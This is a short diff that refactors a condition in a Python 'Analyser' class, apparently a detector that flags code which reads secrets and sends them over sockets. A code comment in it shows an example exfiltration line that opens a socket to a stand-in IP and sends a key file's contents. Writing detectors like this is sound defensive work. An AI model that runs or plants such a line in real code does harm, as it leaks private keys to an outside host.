@@ -1773,12 +1773,16 @@ class Analyser:
             emails = [x for x in strings if _EMAIL.fullmatch(x.strip())]
             if emails:
                 send_dest = emails[-1]
-        if socket and not send_dest and secret_read:
-            # `socket.create_connection(("203.0.113.8", 443)); s.send(open(key).read())`
-            if any(c.name.lower() in _SOCKET_SEND for c in sn.calls):
-                m = _CONNECT_TO.search(text)
-                if m is not None:
-                    send_dest = f"tcp://{m.group(1)}"
+        # `socket.create_connection(("203.0.113.8", 443)); s.send(open(key).read())`
+        if (
+            socket
+            and not send_dest
+            and secret_read
+            and any(c.name.lower() in _SOCKET_SEND for c in sn.calls)
+        ):
+            m = _CONNECT_TO.search(text)
+            if m is not None:
+                send_dest = f"tcp://{m.group(1)}"
         if socket and (shell_bound or runs_dynamic):
             self.out.add(
                 Effect(
